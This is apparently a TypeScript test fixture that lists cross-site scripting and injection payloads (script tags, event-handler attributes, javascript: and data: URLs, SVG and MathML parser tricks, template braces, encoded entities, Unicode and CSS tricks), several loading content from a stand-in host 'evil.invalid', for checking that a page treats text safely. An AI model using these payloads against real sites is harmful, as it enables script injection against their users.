/**
 * What breaks out of a page that takes text for anything but text. `planted` is listened to in the browser;
 * whatever runs says so there.
 */
export const hostile: readonly string[] = [
  // Tags that do something by themselves.
  `<script>planted('script')</script>`,
  `</script><script>planted('script again')</script>`,
  `<ScRiPt src="https://evil.invalid/a.js"></sCrIpT>`,
  `<img src=x onerror=planted('img')>`,
  `<IMG SRC="https://evil.invalid/a.png">`,
  `<img src="x" srcset="https://evil.invalid/b.png 1x" onerror="planted('srcset')"`,
  `<iframe srcdoc="<script>parent.planted('iframe')</script>"></iframe>`,
  `<object data="//evil.invalid/a.swf"></object><embed src="//evil.invalid/b.swf">`,
  `<video><source onerror=planted('video')></video>`,
  `<details open ontoggle=planted('details')>`,
  `<input autofocus onfocus=planted('focus')>`,
  `<body onload=planted('body')>`,
  `<meta http-equiv=refresh content="0;url=https://evil.invalid/">`,
  `<base href="https://evil.invalid/">`,
  `<link rel=stylesheet href="https://evil.invalid/a.css">`,
  `<form action="https://evil.invalid/"><button>Save</button></form>`,
  `<a href="javascript:planted('a')">Save</a>`,
  `<template><script>planted('template')</script></template>`,
  `<x-y is=script onclick=planted('own')>`,
  // Out of attributes, comments, titles and text areas.
  `" onmouseover="planted('attribute')" x="`,
  `' autofocus onfocus='planted(1)' x='`,
  '` onerror=planted(1) `',
  `"><svg/onload=planted('out')>`,
  `--><img src=x onerror=planted('comment')><!--`,
  `</title><img src=x onerror=planted('title')>`,
  `</textarea><img src=x onerror=planted('textarea')>`,
  `]]><img src=x onerror=planted('cdata')><![CDATA[`,
  // SVG and MathML, which parse otherwise.
  `<svg onload=planted('svg')>`,
  `<svg><animate onbegin=planted('animate') attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='planted(2)'/>#x">`,
  `<svg><script>planted&lpar;'in svg'&rpar;</script></svg>`,
  `<math><mtext><mglyph><style><!--</style><img title="--&gt;<svg onload=planted(3)>">`,
  `<math href="javascript:planted('math')">click</math>`,
  // Addresses that are programs.
  `javascript:planted('link')`,
  `JaVaScRiPt&colon;planted('colon')`,
  `java\tscript:planted('tab')`,
  `data:text/html,<script>planted('data')</script>`,
  `vbscript:msgbox(1)`,
  // Braces of templates and of i18next.
  `{{constructor.constructor('planted(4)')()}}`,
  '${planted(5)} #{planted(5)} <%= planted(5) %>',
  `{{count}} $t(table:sortBy) <0>bold</0>`,
  // Entities, whole and broken.
  `&lt;script&gt;planted('entity')&lt;/script&gt;`,
  `&#60img src=x onerror=planted(6)&#62`,
  `&#x3c;svg/onload=planted(7)&#x3e`,
  `&ampamp;&notanentity;&#xffffffff;&`,
  // Unicode that becomes something else, or turns a line around.
  `＜script＞planted(8)＜/script＞`,
  `‹img src=x onerror=planted(9)›`,
  `+ADw-script+AD4-planted(10)+ADw-/script+AD4-`,
  `\u202Egnp.exe\u202C \u200Bzero\u200Dwidth`,
  `İmg ſcript ﬁ é e\u0301`,
  // CSS.
  `<style>@import '//evil.invalid/b.css';*{background:url(//evil.invalid/c)}</style>`,
  `x;background:url(https://evil.invalid/d);width:expression(planted(11))`,
  `<div style="position:fixed;inset:0;background:url('https://evil.invalid/e')">`,
  // Names that JavaScript knows.
  `__proto__`,
  `[object Object] \\u003cimg src=x onerror=planted(12)\\u003e`,
];

/** Of the i-th, in one place; what comes after it tells where it was planted. */
export const plantedAs = (place: string, i: number): string => `${hostile[i] ?? ''} ${place}${i}`;

export const everyOne = (place: string): readonly string[] =>
  hostile.map((_, i) => plantedAs(place, i));
